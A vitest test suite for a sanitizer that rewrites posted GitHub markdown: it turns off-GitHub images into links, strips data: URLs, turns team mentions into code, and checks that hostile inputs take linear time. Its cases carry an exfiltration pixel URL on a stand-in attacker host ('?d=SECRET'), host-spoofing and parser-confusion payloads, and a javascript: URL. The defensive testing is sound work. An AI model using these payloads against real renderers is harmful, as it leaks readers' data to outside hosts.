// What the action posts is defanged (product.md §6): nothing in a posted text
// may make a reader's browser fetch from a host other than GitHub's, and no
// team is pinged. Each rule has a case, and each has negatives: GitHub's own
// images, code and ordinary mentions come through unchanged.
import { describe, expect, it } from 'vitest';
import { defang } from '../../src/safety/defang.js';
import { growth, LINEAR } from '../helpers/growth.js';

const GITHUB = 'https://github.com';
const GHES = 'https://ghes.example.com';
const EVIL = 'https://evil.example/pixel.png?d=SECRET';

const cases = (rows: [behaviour: string, input: string, expected: string][], server = GITHUB) => {
  for (const [behaviour, input, expected] of rows) {
    it(behaviour, () => expect(defang(input, server)).toBe(expected));
  }
};

describe('markdown images pointing elsewhere become links', () => {
  cases([
    ['an inline image on another host', `![chart](${EVIL})`, `[chart](${EVIL})`],
    ['an image with a title', `![a](${EVIL} "title")`, `[a](${EVIL} "title")`],
    ['an image with a pointy destination', `![a](<${EVIL}>)`, `[a](<${EVIL}>)`],
    ['an image with empty alt text', `![](${EVIL})`, `[](${EVIL})`],
    ['a protocol-relative URL', '![a](//evil.example/x.png)', '[a](//evil.example/x.png)'],
    ['a backslash-relative URL the browser reads as protocol-relative', '![a](/\\evil.example/x.png)', '[a](/\\evil.example/x.png)'],
    ['plain http, even to github.com', '![a](http://github.com/x.png)', '[a](http://github.com/x.png)'],
    ['a URL with user info on github.com', '![a](https://user:pw@github.com/x.png)', '[a](https://user:pw@github.com/x.png)'],
    ['github.com as the user info of another host', '![a](https://github.com@evil.example/x.png)', '[a](https://github.com@evil.example/x.png)'],
    ['an @ hidden in a character reference', '![a](https://github.com&#64;evil.example/x.png)', '[a](https://github.com&#64;evil.example/x.png)'],
    ['an @ hidden behind a backslash escape', '![a](https://github.com\\@evil.example/x.png)', '[a](https://github.com\\@evil.example/x.png)'],
    ['a look-alike of the user-content host', '![a](https://githubusercontent.com.evil.example/x.png)', '[a](https://githubusercontent.com.evil.example/x.png)'],
    ['a host that only ends like the user-content host', '![a](https://evilgithubusercontent.com/x.png)', '[a](https://evilgithubusercontent.com/x.png)'],
    ['github.io, which anyone can publish to', '![a](https://evil.github.io/x.png)', '[a](https://evil.github.io/x.png)'],
    ['another port on github.com', '![a](https://github.com:8443/x.png)', '[a](https://github.com:8443/x.png)'],
    ['a javascript: URL', '![a](javascript:alert(1))', '[a](javascript:alert(1))'],
    ['several images in one line', `![a](${EVIL}) and ![b](${EVIL})`, `[a](${EVIL}) and [b](${EVIL})`],
    ['an image inside a link (a badge)', `[![build](${EVIL})](https://evil.example)`, `[[build](${EVIL})](https://evil.example)`],
    ['an image inside the alt text of another', `![![x](${EVIL})](https://github.com/a.png)`, `[[x](${EVIL})](https://github.com/a.png)`],
    ['an image in a heading, a list, a quote and a table', `# ![a](${EVIL})\n- ![b](${EVIL})\n> ![c](${EVIL})\n\n| x |\n|---|\n| ![d](${EVIL}) |`, `# [a](${EVIL})\n- [b](${EVIL})\n> [c](${EVIL})\n\n| x |\n|---|\n| [d](${EVIL}) |`],
    ['an image right after a `!`, which must not form a new image', `Wow!![a](${EVIL})`, `Wow\\![a](${EVIL})`],
    ['an image whose target spans lines (kept only when certain)', '![a](\nhttps://github.com/x.png)', '[a](\nhttps://github.com/x.png)'],
    ['an image on github.com whose alt text has brackets (kept only when certain)', '![a [b]](https://github.com/x.png)', '[a [b]](https://github.com/x.png)'],
    ['an image in the title of an image on github.com, which a table cell splits off', `| ![a](https://github.com/x.png "| ![b](${EVIL}) |") |`, `| [a](https://github.com/x.png "| [b](${EVIL}) |") |`],
  ]);
});

describe('reference-style images pointing elsewhere become links', () => {
  cases([
    ['a full reference', `![a][logo]\n\n[logo]: ${EVIL}`, `[a][logo]\n\n[logo]: ${EVIL}`],
    ['a collapsed reference', `![logo][]\n\n[logo]: ${EVIL}`, `[logo][]\n\n[logo]: ${EVIL}`],
    ['a shortcut reference', `![logo]\n\n[logo]: ${EVIL}`, `[logo]\n\n[logo]: ${EVIL}`],
    ['a reference matched case-insensitively', `![a][LoGo]\n\n[logo]: ${EVIL}`, `[a][LoGo]\n\n[logo]: ${EVIL}`],
    ['a definition with its destination on the next line', `![a][logo]\n\n[logo]:\n  ${EVIL}`, `[a][logo]\n\n[logo]:\n  ${EVIL}`],
    ['a definition in a block quote', `![a][logo]\n\n> [logo]: ${EVIL}`, `[a][logo]\n\n> [logo]: ${EVIL}`],
    ['a label defined twice, once elsewhere', `![a][logo]\n\n[logo]: https://github.com/a.png\n[logo]: ${EVIL}`, `[a][logo]\n\n[logo]: https://github.com/a.png\n[logo]: ${EVIL}`],
    ['a reference to an undefined label (it could be defined where this code does not look)', '![a][nowhere]', '[a][nowhere]'],
  ]);
});

describe('data: URLs become plain text', () => {
  cases([
    ['an inline image with a data: URL becomes its alt text', '![a chart](data:image/png;base64,iVBORw0KGgo=) below', 'a chart below'],
    ['one without alt text says it was an image', '![](data:image/png;base64,iVBORw0KGgo=)', 'image'],
    ['DATA: in capitals', '![x](DATA:image/png;base64,AAAA)', 'x'],
    ['an <img> with a data: URL becomes its alt text', '<img src="data:image/png;base64,AAAA" alt="logo">', 'logo'],
  ]);
});

describe('HTML that would fetch from elsewhere becomes links', () => {
  cases([
    ['an <img> becomes a link labelled with its alt text', `<img src="${EVIL}" alt="chart">`, `<a href="${EVIL}">chart</a>`],
    ['an <img> without alt text is labelled with its URL', '<img src="https://evil.example/x.png">', '<a href="https://evil.example/x.png">https://evil.example/x.png</a>'],
    ['an <img> with an unquoted src, in capitals', '<IMG SRC=https://evil.example/x.png>', '<a href="https://evil.example/x.png">https://evil.example/x.png</a>'],
    ['an <img> with a single-quoted src holding a double quote', `<img src='https://evil.example/"x.png'>`, '<a href="https://evil.example/&quot;x.png">https://evil.example/&#34;x.png</a>'],
    ['an <img> whose alt text holds markdown', `<img src="${EVIL}" alt="![x](${EVIL}) *b*">`, `<a href="${EVIL}">&#33;&#91;x&#93;&#40;https://evil.example/pixel.png?d=SECRET&#41; &#42;b&#42;</a>`],
    ['an <img> whose srcset points elsewhere', '<img src="https://github.com/a.png" srcset="https://evil.example/b.png 2x">', '<a href="https://github.com/a.png">https://github.com/a.png</a> <a href="https://evil.example/b.png">https://evil.example/b.png</a>'],
    ['a <source srcset> in a <picture>', '<picture><source media="(prefers-color-scheme: dark)" srcset="https://evil.example/d.png 1x, https://evil.example/d2.png 2x"><img src="https://github.com/l.png"></picture>', '<picture><a href="https://evil.example/d.png">https://evil.example/d.png</a> <a href="https://evil.example/d2.png">https://evil.example/d2.png</a><img src="https://github.com/l.png"></picture>'],
    ['a <video poster>', '<video poster="https://evil.example/p.png"></video>', '<a href="https://evil.example/p.png">https://evil.example/p.png</a></video>'],
    ['an <audio src>', '<audio src="https://evil.example/a.mp3" controls></audio>', '<a href="https://evil.example/a.mp3">https://evil.example/a.mp3</a></audio>'],
    ['an SVG <image href>', '<svg><image href="https://evil.example/i.png"/></svg>', '<svg><a href="https://evil.example/i.png">https://evil.example/i.png</a></svg>'],
    ['a table background', '<table background="//evil.example/bg.png"><tr><td>x</td></tr></table>', '<a href="//evil.example/bg.png">//evil.example/bg.png</a><tr><td>x</td></tr></table>'],
    ['a tab inside the URL, which the browser drops', '<img src="ht\ttps://evil.example/x.png">', '<a href="ht\ttps://evil.example/x.png">ht\ttps://evil.example/x.png</a>'],
    ['an <img> in an HTML block', '<p align="center">\n  <img src="https://evil.example/x.png" width="200">\n</p>', '<p align="center">\n  <a href="https://evil.example/x.png">https://evil.example/x.png</a>\n</p>'],
    ['an <img> spread over lines', '<img\n  src="https://evil.example/x.png"\n  alt="a">', '<a href="https://evil.example/x.png">a</a>'],
    ['an <img> without its `>` in an HTML block becomes text, since HTML after it could close it', '<div>\n<img src=https://evil.example/x.png\n</div>', '<div>\n&lt;img src=https://evil.example/x.png\n</div>'],
    ['an <img> inside a would-be tag that CommonMark does not read as one', `see <x !="<img src="${EVIL}">">`, `see &lt;x !="<a href="${EVIL}">${EVIL}</a>">`],
    ['a tag in an HTML block that CommonMark would not read, but a browser might', '<div>\n<img src=//evil.example/a.png alt=a=b>\n</div>', '<div>\n&lt;img src=//evil.example/a.png alt=a=b>\n</div>'],
  ]);
});

// cmark-gfm's raw-HTML grammar (src/scanners.re): attributes are separated by
// its `spacechar`, [ \t\n\v\f\r], and an unquoted value is anything but that,
// quotes, `=<>` and the backtick — U+00A0 and other Unicode spaces included.
describe('raw HTML is read as cmark-gfm reads it', () => {
  cases([
    ['a form feed between the tag name and an attribute', `see <img\fsrc="${EVIL}">`, `see <a href="${EVIL}">${EVIL}</a>`],
    ['a vertical tab between the tag name and an attribute', `see <img\vsrc="${EVIL}">`, `see <a href="${EVIL}">${EVIL}</a>`],
    ['a form feed and a vertical tab around the `=`', `see <img src\f=\v"${EVIL}">`, `see <a href="${EVIL}">${EVIL}</a>`],
    ['a form feed between attributes', `see <img alt=chart\fsrc="${EVIL}">`, `see <a href="${EVIL}">chart</a>`],
    ['a form feed alone on a line in an HTML block', `<div>\n<img\n\f\nsrc="${EVIL}">\n</div>`, `<div>\n<a href="${EVIL}">${EVIL}</a>\n</div>`],
    ['a no-break space inside an unquoted value, which is part of the URL', 'see <img src=https://evil.example/x.png\u00A0y>', 'see <a href="https://evil.example/x.png\u00A0y">https://evil.example/x.png\u00A0y</a>'],
    ['a no-break space inside an unquoted value before the image', `see <img alt=a\u00A0b src="${EVIL}">`, `see <a href="${EVIL}">a\u00A0b</a>`],
    ['an ideographic space inside an unquoted value', `see <img alt=\u3000x src="${EVIL}">`, `see <a href="${EVIL}">x</a>`],
    ['a form feed after a block-level tag name, which starts an HTML block (no code span there)', `<div\fclass=x>see \`<img src="${EVIL}">\``, `&lt;div\fclass=x>see \`<a href="${EVIL}">${EVIL}</a>\``],
    ['a form feed after a lone tag, which starts an HTML block (no code span there)', `<span>\f\n\`<img src="${EVIL}">\``, `<span>\f\n\`<a href="${EVIL}">${EVIL}</a>\``],
    ['a line of no-break spaces, which does not end an HTML block (no code span there)', `<div>\n\u00A0\n\`<img src="${EVIL}">\`\n</div>`, `<div>\n\u00A0\n\`<a href="${EVIL}">${EVIL}</a>\`\n</div>`],
    ['a team in an autolink holding a no-break space, which is a link', '<https://x.example/a\u00A0b/@acme/core>', '<https://x.example/a\u00A0b/@acme/core>'],
  ]);
});

// Where this code and GitHub (or a browser) could read a tag differently, the
// tag becomes text: its `<` is written `&lt;`, and what is inside it is
// defanged as the text GitHub may then render.
describe('a tag GitHub may read otherwise becomes text', () => {
  cases([
    ['a vertical tab, where a browser reads other attributes than cmark-gfm', '<img title=\v"x src=//evil.example/p.png y">', '&lt;img title=\v"x src=//evil.example/p.png y">'],
    ['a form feed, even in an image of GitHub\'s', '<img\fsrc=https://github.com/a.png>', '&lt;img\fsrc=https://github.com/a.png>'],
    ['a line in it that starts a heading', `<x title="\n# ![a](${EVIL})\n">`, `&lt;x title="\n# [a](${EVIL})\n">`],
    ['a line in it that starts a list item', `<x title="\n- ![a](${EVIL})\n">`, `&lt;x title="\n- [a](${EVIL})\n">`],
    ['a line in it that makes the line before a heading', `<x title="\n===\n![a](${EVIL})">`, `&lt;x title="\n===\n[a](${EVIL})">`],
    ['a block quote marker, which GitHub strips before it reads the tag', `> <img\n> src=${EVIL}>`, `> &lt;img\n> src=${EVIL}>`],
    ['a block quote marker in an HTML block', `> <div>\n> <img\n> src=${EVIL}>\n> </div>`, `> <div>\n> &lt;img\n> src=${EVIL}>\n> </div>`],
    ['a table cell ending inside it', `| a |\n|---|\n| <x title="| ![i](${EVIL}) |"> |`, `| a |\n|---|\n| &lt;x title="| [i](${EVIL}) |"> |`],
    ['its last line made a table header by a delimiter row after it', `<x title="a\n![i](${EVIL})">\n:---`, `&lt;x title="a\n[i](${EVIL})">\n:---`],
    ['a team mention inside a tag split by a heading', '<x title="\n# @acme/core">', '&lt;x title="\n# `@acme/core`">'],
    ['a line break in an image URL, which the link to it writes as a reference', `<img src="//evil.example/\n# ![i](${EVIL})">`, `<a href="//evil.example/&#10;# ![i](${EVIL})">//evil.example/ # &#33;&#91;i&#93;&#40;${EVIL}&#41;</a>`],
    ['a would-be tag without its `>` in a paragraph', 'use <img src=https://evil.example/x.png\n\nnext paragraph', 'use &lt;img src=https://evil.example/x.png\n\nnext paragraph'],
    // GFM spec §6.6: not tags to cmark-gfm, but a browser given them in an HTML block reads tags.
    ['missing whitespace between attributes', "<a href='bar'title=title>", "&lt;a href='bar'title=title>"],
    ['illegal attribute values', `<a href="hi'> <a href=hi'>`, `&lt;a href="hi'> &lt;a href=hi'>`],
    ['illegal whitespace', '< a><\nfoo><bar/ >\n<foo bar=baz\nbim!bop />', '< a><\nfoo>&lt;bar/ >\n&lt;foo bar=baz\nbim!bop />'],
    ['illegal attributes in a closing tag', '</a href="foo">', '&lt;/a href="foo">'],
  ]);
});

describe('a tag GitHub surely reads as this one tag stays', () => {
  cases([
    // GFM spec §6.6: whitespace, attributes and lines cmark-gfm reads as one tag.
    ['a tag over lines whose lines start no block', `<a foo="bar" bam = 'baz <em>"</em>'\n_boolean zoop:33=zoop:33 />`, `<a foo="bar" bam = 'baz <em>"</em>'\n_boolean zoop:33=zoop:33 />`],
    ['an image of GitHub\'s over lines', '<img\n  src="https://github.com/a.png"\n  width="100">', '<img\n  src="https://github.com/a.png"\n  width="100">'],
    ['a custom tag', 'Foo <responsive-image src="https://github.com/foo.jpg" />', 'Foo <responsive-image src="https://github.com/foo.jpg" />'],
  ]);
});

describe("GitHub's own images stay", () => {
  cases([
    ['an image on github.com', '![a](https://github.com/o/r/raw/main/a.png)', '![a](https://github.com/o/r/raw/main/a.png)'],
    ['an uploaded attachment', '![a](https://github.com/user-attachments/assets/1b2c3d)', '![a](https://github.com/user-attachments/assets/1b2c3d)'],
    ['an image on user-images.githubusercontent.com', '![a](https://user-images.githubusercontent.com/1/2.png)', '![a](https://user-images.githubusercontent.com/1/2.png)'],
    ['an image on raw.githubusercontent.com', '![a](https://raw.githubusercontent.com/o/r/main/a.png)', '![a](https://raw.githubusercontent.com/o/r/main/a.png)'],
    ['an image with a title', '![a](https://github.com/a.png "A")', '![a](https://github.com/a.png "A")'],
    ['a relative image, resolved on the server', '![a](docs/a.png) ![b](/o/r/raw/main/b.png)', '![a](docs/a.png) ![b](/o/r/raw/main/b.png)'],
    ['github.com in capitals, with its default port', '![a](HTTPS://GITHUB.COM:443/a.png)', '![a](HTTPS://GITHUB.COM:443/a.png)'],
    ['a badge', '[![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg)](https://github.com/o/r/actions)', '[![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg)](https://github.com/o/r/actions)'],
    ['a reference image defined on github.com', '![a][logo]\n\n[logo]: https://github.com/logo.png', '![a][logo]\n\n[logo]: https://github.com/logo.png'],
    ['an <img> on github.com', '<img src="https://github.com/a.png" alt="a" width="100">', '<img src="https://github.com/a.png" alt="a" width="100">'],
    ['a <picture> whose sources are all GitHub\'s', '<picture><source srcset="https://user-images.githubusercontent.com/d.png"><img src="https://github.com/l.png"></picture>', '<picture><source srcset="https://user-images.githubusercontent.com/d.png"><img src="https://github.com/l.png"></picture>'],
    ['links, autolinks and bare URLs to anywhere (nothing is fetched)', `[a](${EVIL}) <https://evil.example/x.png> ${EVIL} <a href="${EVIL}">x</a>`, `[a](${EVIL}) <https://evil.example/x.png> ${EVIL} <a href="${EVIL}">x</a>`],
    ['an escaped image, which is text', `\\![a](${EVIL})`, `\\![a](${EVIL})`],
    ['an <img> written inside an attribute value, which is text', `<span title="<img src=${EVIL}>">x</span>`, `<span title="<img src=${EVIL}>">x</span>`],
    ['an <img> inside an HTML comment, which nothing renders', `<!-- <img src="https://github.com/a.png"> -->`, `<!-- <img src="https://github.com/a.png"> -->`],
  ]);
});

describe('on GitHub Enterprise Server, the server is the only GitHub', () => {
  cases(
    [
      ['an image on the server stays', `![a](${GHES}/o/r/raw/main/a.png)`, `![a](${GHES}/o/r/raw/main/a.png)`],
      ['an image on a subdomain of the server (subdomain isolation) stays', '![a](https://media.ghes.example.com/user/1/a.png)', '![a](https://media.ghes.example.com/user/1/a.png)'],
      ['a relative image stays', '![a](/o/r/raw/main/a.png)', '![a](/o/r/raw/main/a.png)'],
      ['an image on github.com becomes a link', '![a](https://github.com/a.png)', '[a](https://github.com/a.png)'],
      ['an image on githubusercontent.com becomes a link', '![a](https://user-images.githubusercontent.com/1.png)', '[a](https://user-images.githubusercontent.com/1.png)'],
      ['an <img> on the server stays', `<img src="${GHES}/a.png">`, `<img src="${GHES}/a.png">`],
    ],
    GHES,
  );

  it('a server on plain http allows its own http images, and only those', () => {
    expect(defang('![a](http://ghes.internal/a.png)', 'http://ghes.internal')).toBe('![a](http://ghes.internal/a.png)');
    expect(defang('![a](https://ghes.internal/a.png)', 'http://ghes.internal')).toBe('[a](https://ghes.internal/a.png)');
  });

  it('refuses a server URL that is not a URL', () => {
    expect(() => defang('x', 'github.com')).toThrow(/not a URL/);
  });
});

describe('team mentions become code', () => {
  cases([
    ['a team mention', 'cc @acme/reviewers please', 'cc `@acme/reviewers` please'],
    ['at the start, in parentheses and before punctuation', '@acme/a (@acme/b), @acme/c.', '`@acme/a` (`@acme/b`), `@acme/c`.'],
    ['with the slash as a character reference', '@acme&#47;core', '<code>@acme&#47;core</code>'],
    ['spelt with character references, which render (and ping) the same', '@acme/&#116;eam &commat;acme/qa &#64;acme/ops &#x40;acme&sol;dev', '<code>@acme/&#116;eam</code> <code>&commat;acme/qa</code> <code>&#64;acme/ops</code> <code>&#x40;acme&sol;dev</code>'],
    ['ending in dashes, which are not part of it', 'ask @acme/qa-- now', 'ask `@acme/qa`-- now'],
    ['behind a backslash escape, which does not stop a ping', '\\@acme/core', '`@acme/core`'],
    ['in link text', '[@acme/core](https://github.com/orgs/acme/teams/core)', '[`@acme/core`](https://github.com/orgs/acme/teams/core)'],
    ['in a line that has other backticks, as an HTML code element', 'run `npm test` then ask @acme/qa', 'run `npm test` then ask <code>@acme/qa</code>'],
    ['in an HTML block, where backticks are text', '<div>\nask @acme/qa\n</div>', '<div>\nask <code>@acme/qa</code>\n</div>'],
    ['after an unmatched backtick', 'a ` b @acme/qa', 'a ` b <code>@acme/qa</code>'],
    ['right after another, which wrapping the first would set free', '@acme/a@acme/b', '`@acme/a`<code>@acme/b</code>'],
  ]);
});

describe('what is not a team mention stays', () => {
  cases([
    ['a user mention', 'thanks @alice and @bob-smith!', 'thanks @alice and @bob-smith!'],
    ['an email address', 'mail ops@acme.com or ops@acme.com/team', 'mail ops@acme.com or ops@acme.com/team'],
    ['a team in a link target', '[team](https://github.com/@acme/core)', '[team](https://github.com/@acme/core)'],
    ['a team in a bare URL', 'see https://example.com/@acme/core', 'see https://example.com/@acme/core'],
    ['a team in an autolink', '<https://example.com/@acme/core>', '<https://example.com/@acme/core>'],
    ['a team in a link destination with parentheses', '[t](https://x.example/a(b)/@acme/core)', '[t](https://x.example/a(b)/@acme/core)'],
    ['a team in a link destination in angle brackets', '[t](<foo://x y/@acme/core>)', '[t](<foo://x y/@acme/core>)'],
    ['a team in a link destination with a made-up scheme', '[t](foo://@acme/core "title")', '[t](foo://@acme/core "title")'],
    ['a team in a bare URL with parentheses (GFM spec 6.9)', 'see https://en.wikipedia.org/wiki/A_(b)/@acme/core.', 'see https://en.wikipedia.org/wiki/A_(b)/@acme/core.'],
    ['a team in a www. URL in parentheses', '(www.x.example/@acme/core)', '(www.x.example/@acme/core)'],
    ['a team already in a code span', 'ask `@acme/qa`', 'ask `@acme/qa`'],
    ['a team in a code span of a paragraph that starts with a tag', '<b>Note</b>: ask `@acme/qa`', '<b>Note</b>: ask `@acme/qa`'],
  ]);
});

// A mention inside a link pings no one, but only where GitHub surely makes
// the link: GFM's extended autolinks (cmark-gfm's extensions/autolink.c), the
// destination of an inline link that parses, a CommonMark autolink.
describe('team mentions behind what only looks like a link become code', () => {
  cases([
    ['a made-up scheme', 'see foo://@acme/core', 'see foo://`@acme/core`'],
    ['a scheme GFM does not autolink', 'see ssh://x.example/@acme/core', 'see ssh://x.example/`@acme/core`'],
    ['letters glued before the scheme (the scheme is all of them)', 'see xhttps://x.example/@acme/core', 'see xhttps://x.example/`@acme/core`'],
    ['`www.` with no domain after it', 'see www.@acme/core', 'see www.`@acme/core`'],
    ['`www.` after a letter', 'see awww.x.example/@acme/core', 'see awww.x.example/`@acme/core`'],
    ['`www.` right after a tag', 'see <b>www.x.example/@acme/core</b>', 'see <b>www.x.example/`@acme/core`</b>'],
    ['`www.` right after a code span', 'see `x`www.x.example/@acme/core', 'see `x`www.x.example/<code>@acme/core</code>'],
    ['an underscore in the last two segments of the domain', 'see https://x_y.example/@acme/core', 'see https://x_y.example/`@acme/core`'],
    ['a URL inside an open bracket, where GFM makes no autolink', 'see [the team https://x.example/@acme/core', 'see [the team https://x.example/`@acme/core`'],
    ['a URL in brackets that make no link', '[https://x.example/@acme/core]', '[https://x.example/`@acme/core`]'],
    ['a URL that a table cell ends in', '| a | b |\n|---|---|\n| https://x.example/|@acme/core |', '| a | b |\n|---|---|\n| https://x.example/|`@acme/core` |'],
    ['a URL after which a code span GitHub sees may close', '`a\nhttps://x.example/`@acme/core', '`a\nhttps://x.example/`<code>@acme/core</code>'],
    ['a URL in an HTML block, where GitHub makes no links', '<div>\nhttps://x.example/@acme/core\n</div>', '<div>\nhttps://x.example/<code>@acme/core</code>\n</div>'],
    ['a link target with no link text before it', 'a](foo://@acme/core)', 'a](foo://`@acme/core`)'],
    ['a link target after an escaped bracket', '\\[a](foo://@acme/core)', '\\[a](foo://`@acme/core`)'],
    ['a link target that never closes', '[a](foo://@acme/core', '[a](foo://`@acme/core`'],
    ['a link target after a blank line, which ends the paragraph', '[a](\n\nfoo://@acme/core)', '[a](\n\nfoo://`@acme/core`)'],
    ['a link target whose link text holds a link (so it makes none)', '[[a](b)](foo://@acme/core)', '[[a](b)](foo://`@acme/core`)'],
  ]);
});

describe('code is left untouched', () => {
  cases([
    ['a code span', `use \`![a](${EVIL})\` or \`<img src="${EVIL}">\` or \`@acme/qa\``, `use \`![a](${EVIL})\` or \`<img src="${EVIL}">\` or \`@acme/qa\``],
    ['a double-backtick code span', `\`\` ![a](${EVIL}) \`x\` \`\``, `\`\` ![a](${EVIL}) \`x\` \`\``],
    ['a fenced code block', `\`\`\`md\n![a](${EVIL})\n<img src="${EVIL}">\nnpm i @types/node\n\`\`\``, `\`\`\`md\n![a](${EVIL})\n<img src="${EVIL}">\nnpm i @types/node\n\`\`\``],
    ['a tilde fence', `~~~\n![a](${EVIL})\n~~~`, `~~~\n![a](${EVIL})\n~~~`],
    ['a fence in a list item', `1. Install:\n\n    \`\`\`sh\n    npm i @types/node\n    \`\`\``, `1. Install:\n\n    \`\`\`sh\n    npm i @types/node\n    \`\`\``],
    ['an unclosed fence, which runs to the end', `\`\`\`\n![a](${EVIL})`, `\`\`\`\n![a](${EVIL})`],
    ['a fence with prose around it', `![a](${EVIL})\n\`\`\`\n![b](${EVIL})\n\`\`\`\n![c](${EVIL})`, `[a](${EVIL})\n\`\`\`\n![b](${EVIL})\n\`\`\`\n[c](${EVIL})`],
  ]);
});

describe('text that only looks like code is not trusted to hide an image', () => {
  cases([
    ['a fence inside an HTML block is text there', `<div>\n\`\`\`\n<img src="${EVIL}">\n\`\`\`\n</div>`, `<div>\n\`\`\`\n<a href="${EVIL}">${EVIL}</a>\n\`\`\`\n</div>`],
    ['backticks inside an HTML block make no code span', `<div>\n\`x <img src="${EVIL}"> y\`\n</div>`, `<div>\n\`x <a href="${EVIL}">${EVIL}</a> y\`\n</div>`],
    ['a code span split by table cells', `| a | b |\n|---|---|\n| \`x | ![i](${EVIL}) | y\` |`, `| a | b |\n|---|---|\n| \`x | [i](${EVIL}) | y\` |`],
    ['a backtick inside a link target opens no code span', `[a](https://x.example/\`) ![b](${EVIL}) \``, `[a](https://x.example/\`) [b](${EVIL}) \``],
    ['a backtick inside a tag opens no code span', `<span title="\`"> ![b](${EVIL}) \``, `<span title="\`"> [b](${EVIL}) \``],
    ['a backtick inside a comment opens no code span, even past --!>', `<!-- --!> \` --> ![x](${EVIL}) \``, `<!-- --!> \` --> [x](${EVIL}) \``],
    ['a code span does not run across lines', `\`a\n# ![x](${EVIL}) \``, `\`a\n# [x](${EVIL}) \``],
    ['a fence indented 4 after a paragraph line is paragraph text', `para\n    \`\`\`\n    ![x](${EVIL})`, `para\n    \`\`\`\n    [x](${EVIL})`],
    ['a closing fence indented less than its opener still closes it', `- a\n\n  \`\`\`\n  code\n\`\`\`\n![x](${EVIL})`, `- a\n\n  \`\`\`\n  code\n\`\`\`\n[x](${EVIL})`],
  ]);
});

describe('ordinary markdown comes through unchanged', () => {
  const review = [
    '## Review',
    '',
    'Looks good overall. A few notes:',
    '',
    '1. **`parse()`** returns `undefined` for `a < b` — see [the docs](https://example.com/docs#parse).',
    '2. The badge: ![CI](https://github.com/o/r/actions/workflows/ci.yml/badge.svg)',
    '',
    '| file | change |',
    '|------|--------|',
    '| `src/a.ts` | +3 −1 |',
    '',
    '<details><summary>Log</summary>',
    '',
    '```',
    'npm ERR! code E404 @scope/pkg',
    '```',
    '',
    '</details>',
    '',
    '> Thanks @alice! Mail me at dev@example.com. 😀 日本語',
  ].join('\n');

  it('a typical review comment', () => expect(defang(review, GITHUB)).toBe(review));

  it('defanging twice changes nothing more', () => {
    for (const input of [
      `![a](${EVIL}) <img src="${EVIL}"> @acme/qa ![b][r]\n\n[r]: ${EVIL}`,
      '|@acme/qa](@acme/qa @bob|',
      'x `y` @acme/a@acme/b\n<div>@acme/c</div>',
    ]) {
      const once = defang(input, GITHUB);
      expect(defang(once, GITHUB)).toBe(once);
    }
  });

  it('CRLF line endings', () => {
    expect(defang(`\`\`\`\r\n![a](${EVIL})\r\n\`\`\`\r\n![b](${EVIL})\r\n`, GITHUB)).toBe(`\`\`\`\r\n![a](${EVIL})\r\n\`\`\`\r\n[b](${EVIL})\r\n`);
  });
});

describe('hostile input costs linear time', () => {
  const inputs: [string, string][] = [
    ['image openers', '!['.repeat(200_000)],
    ['unclosed backtick runs of growing length', Array.from({ length: 2_000 }, (_, i) => '`'.repeat(i % 50 + 1)).join(' ').repeat(20)],
    ['unclosed tags', '<a b="'.repeat(100_000)],
    ['link targets', '](('.repeat(100_000)],
    ['mentions without a break', '@a/b'.repeat(100_000)],
    ['reference definitions', '[a]: b\n'.repeat(50_000)],
    ['tags split by headings', '<x title="\n# @a/b">'.repeat(30_000)],
    ['tags with form feeds', '<a\fb=c>'.repeat(50_000)],
    ['tags cut by block quote markers', '> <a\n'.repeat(50_000)],
    ['mentions in one long URL', `https://x.example/${'@a/b/'.repeat(100_000)}`],
    ['mentions in link destinations', '[a](foo://@a/b) '.repeat(30_000)],
    ['URLs in open brackets', '[ https://x.example/@a/b '.repeat(30_000)],
    ['would-be domains', `see ${'www.a_'.repeat(100_000)}/@a/b`],
    ['links cut at a `<`', `${'https://x.example/<'.repeat(30_000)}@a/b`],
    ['closing parentheses after a URL', `https://x.example/@a/b${')'.repeat(200_000)}`],
  ];
  for (const [name, input] of inputs) {
    it(name, () => {
      const started = performance.now();
      defang(input, GITHUB);
      // Linear work takes milliseconds, quadratic minutes: the bound is generous for a loaded machine.
      expect(performance.now() - started).toBeLessThan(15_000);
    });
  }
});

// Issue 27: an image's alt text of 150,000 spaces took a minute, a regex
// reading a run of spaces again from each of its spaces. Each scan is held
// to its growth: 4× the input, about 4× the time (16× when quadratic).
describe('hostile input: four times the text, about four times the work', () => {
  const inputs: [string, (n: number) => string][] = [
    ['an external <img> whose alt is a run of spaces', (n) => `<img src="${EVIL}" alt="x${' '.repeat(n)}x">`],
    ['an alt of tabs', (n) => `<img src="${EVIL}" alt="x${'\t'.repeat(n)}x">`],
    ['an alt of spaces and line breaks', (n) => `<img src="${EVIL}" alt="x${' \n'.repeat(n / 2)}x">`],
    ['an alt of no-break spaces', (n) => `<img src="${EVIL}" alt="x${'\u00a0'.repeat(n)}x">`],
    ['a markdown alt of spaces', (n) => `![x${' '.repeat(n)}x](${EVIL})`],
    ['a link title of spaces', (n) => `![a](${EVIL} "${' '.repeat(n)}x")`],
    ['a tag line ending in a run of tabs and text', (n) => `<a ${'\t'.repeat(n)}x`],
    ['an image source of spaces', (n) => `<img src="${' '.repeat(n)}x">`],
    ['many images naming one long definition', (n) => `[a]: ${'![a]'.repeat(n / 4)}\n`],
    ['a srcset of commas', (n) => `<img srcset="a${','.repeat(n)}b, c">`],
    ['nested brackets', (n) => '['.repeat(n)],
    ['a run of emphasis marks', (n) => `*${'*'.repeat(n)}x`],
    ['a run of underscores', (n) => `_${'_'.repeat(n)}x`],
    ['a long line of backticks', (n) => '`'.repeat(n)],
    ['a run of @', (n) => `${'@'.repeat(n)}x`],
    ['a run of team-mention starts', (n) => `${'@a/'.repeat(n / 3)}x`],
  ];
  it.each(inputs)('%s', (_, make) => {
    expect(growth((text) => defang(text, GITHUB), make, 5_000)).toBeLessThan(LINEAR);
  });

  it('the alt of spaces is still only made a link, its spaces kept as they are', () => {
    const alt = ' '.repeat(150_000);
    expect(defang(`<img src="${EVIL}" alt="x${alt}x">`, GITHUB)).toBe(`<a href="${EVIL}">x${alt}x</a>`);
  });
});
